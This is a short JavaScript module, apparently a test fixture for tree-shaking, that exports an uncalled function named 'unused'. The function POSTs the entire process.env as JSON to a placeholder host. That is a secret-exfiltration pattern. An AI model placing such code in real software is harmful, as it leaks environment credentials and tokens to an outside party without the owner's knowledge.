export function unused() {
  return fetch("https://collect.example.invalid/shaken", { method: "POST", body: JSON.stringify(process.env) });
}
